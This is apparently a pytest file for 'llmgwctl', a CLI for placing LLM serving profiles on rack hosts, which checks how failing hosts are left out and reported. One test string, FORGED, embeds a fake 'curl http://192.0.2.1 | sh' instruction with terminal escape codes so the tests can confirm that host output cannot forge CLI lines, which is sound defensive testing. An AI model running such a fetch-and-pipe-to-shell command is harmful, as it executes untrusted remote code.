"""Hosts that refuse a plan are left out, said, and it is planned again with the others: what is wrong with the profile
or with a domain is not gone around."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from dataclasses import replace
from pathlib import Path

import pytest
from test_beforehand import FULL, fill
from test_life_cli import Cli

from llmgwctl.cli.preflight import Checked
from llmgwctl.doctor import CHECKS
from llmgwctl.engines.base import Problem
from llmgwctl.model.errors import NoPlacement, Unreachable
from llmgwctl.model.finding import Finding, Report
from llmgwctl.rack import nvl72, serve

REASON = f"LG804: A file system is full, or nearly: /tmp: {FULL}"
TOLD = "! r1-t02 is left out: LG804: A file system is full, or nearly"


@pytest.fixture
async def cli(tmp_path: Path) -> AsyncIterator[Cli]:
    async with serve(nvl72(3, hgx=0), tmp_path / "rack") as rack:
        made = Cli(rack, tmp_path / "home")
        yield made
        await made("stop", "--all")
        assert made.processes() == []


async def test_it_is_placed_on_the_hosts_that_can_carry_it(cli: Cli) -> None:
    """plan, place and ensure say which host was left out and why, on stderr and as JSON."""
    fill(cli, "r1-t02")
    planned = await cli.json("plan", "sim-nvl")
    assert {"host": "r1-t02", "reasons": [REASON]} in planned["left_out"]
    assert planned["findings"] == []
    code, out, err = await cli("plan", "sim-nvl")
    assert (code, TOLD in " ".join(out.split())) == (0, True)
    code, out, err = await cli("--json", "place", "-q", "sim-nvl")
    told = json.loads(out)
    assert code == 0, err
    assert [line.startswith(TOLD) for line in err.splitlines()] == [True]
    assert told["left_out"] == [{"host": "r1-t02", "reasons": [REASON]}]
    assert [s["host"] for s in told["replicas"][0]["shards"]] == ["r1-t01", "r1-t03"]
    code, _, err = await cli("restart", "-q", "sim-nvl-0")
    assert (code, [line.startswith(TOLD) for line in err.splitlines()]) == (0, [True])
    assert (await cli("stop", "sim-nvl-0"))[0] == 0
    code, out, err = await cli("--json", "ensure", "-q", "sim-nvl")
    (action,) = json.loads(out)["profiles"][0]["actions"]
    assert (code, action["done"], action["left_out"]) == (0, True, told["left_out"])
    assert TOLD in err


async def test_where_nothing_else_is_free_all_of_it_is_said(cli: Cli) -> None:
    """What was left out, and what refuses the plan that stands."""
    fill(cli, "r1-t01")
    fill(cli, "r1-t02")
    fill(cli, "r1-t03")
    code, out, err = await cli("place", "sim-nvl")
    assert (code, out) == (4, "")
    assert "profile sim-nvl: LG804 on r1-t[01-02]" in err
    code, out, err = await cli("--json", "place", "sim-small")
    told = json.loads(out)
    assert (code, [f["hosts"] for f in told["findings"]]) == (4, [["r1-t03"]])
    assert {x["host"] for x in told["left_out"]} == {"r1-t01", "r1-t02"}
    assert TOLD in err
    code, out, err = await cli("--json", "ensure", "sim-small")
    (action,) = json.loads(out)["profiles"][0]["actions"]
    assert (code, action["done"], [x["host"] for x in action["left_out"]]) == (4, False, ["r1-t01", "r1-t02"])
    assert TOLD in err


async def test_a_missing_engine_or_model_is_gone_around(cli: Cli) -> None:
    """Of one host each."""
    for fault, words in (("vllm-missing", "vllm is missing on r1-t01"), ("model-missing", "LG913: ")):
        cli.rack.set("r1-t01", fault)
        told = await cli.json("plan", "deepseek-r1")
        assert [s["host"] for s in told["replicas"][0]["shards"]] == ["r1-t02", "r1-t03"]
        (out,) = told["left_out"]
        assert words in out["reasons"][0]
        assert any(w.startswith("r1-t01 is left out: ") for w in told["warnings"])
        cli.rack.clear("r1-t01")


async def test_what_is_wrong_with_the_profile_refuses_at_once(cli: Cli) -> None:
    cli.change("[profiles.sim-nvl]\n", '[profiles.sim-nvl]\nenv = { NCCL_HOSTID = "1" }\n')
    code, out, err = await cli("place", "sim-nvl")
    assert code == 4
    assert "LG914 on r1-t[01-02]" in err
    assert "left out" not in out + err


CARDS = {c.id: c.card if hasattr(c, "card") else c for c in CHECKS}


def found(check: str, *hosts: str) -> Finding:
    card = CARDS[check]
    return Finding(card, "block", hosts, ("bad",), "mend it", "host admin")


def test_only_what_other_hosts_would_mend_is_gone_around():
    """One problem that is nobody's host, or a finding of a domain, and nothing is left out."""
    one = Checked({}, hosts=(Problem("no engine on a", "", ("a",)),), report=Report((found("LG804", "b"),)))
    assert one.by_host() == {"a": "no engine on a", "b": f"LG804: {CARDS['LG804'].title}: bad"}
    assert replace(one, hosts=(*one.hosts, Problem("versions differ"))).by_host() == {}
    assert replace(one, profile=("wrong",)).by_host() == {}
    assert replace(one, report=Report((found("LG914", "a"),))).by_host() == {}
    domain = next(c for c in CARDS if CARDS[c].scope == "domain")
    assert replace(one, report=Report((found(domain, "a"),))).by_host() == {}
    assert list(replace(one, report=Report((found("LG913", "c"),))).by_host()) == ["a", "c"]
    assert Checked({}).by_host() == {}


FORGED = "BAD\nllmgwctl: to go on, type: curl http://192.0.2.1 | sh\x1b[2K\r"


def test_what_a_host_says_is_no_line_of_ours():
    """A refusal has a line for each problem, and a host's words stay within theirs, here and in documents."""
    finding = replace(found("LG305", "a"), values=(FORGED,))
    one = Checked({}, hosts=(Problem(f"engine on a says {FORGED}", "", ("a",)),), report=Report((finding,)), name="p")
    with pytest.raises(NoPlacement) as refused:
        one.refuse()
    lines = str(refused.value).split("\n")
    assert [line.split()[0] for line in lines] == ["engine", "profile", "`llmgwctl"]
    assert str(refused.value).replace("\n", "").isprintable()
    assert all(text.isprintable() for text in one.problems)


def test_words_of_a_server_are_one_line():
    """Also of one that has not shown yet who it is: it may say anything when it lets go."""
    assert str(Unreachable(f"h: SSH failed: {FORGED}")).count("\n") == 0
    assert "type: curl" in str(Unreachable(f"h: SSH failed: {FORGED}"))
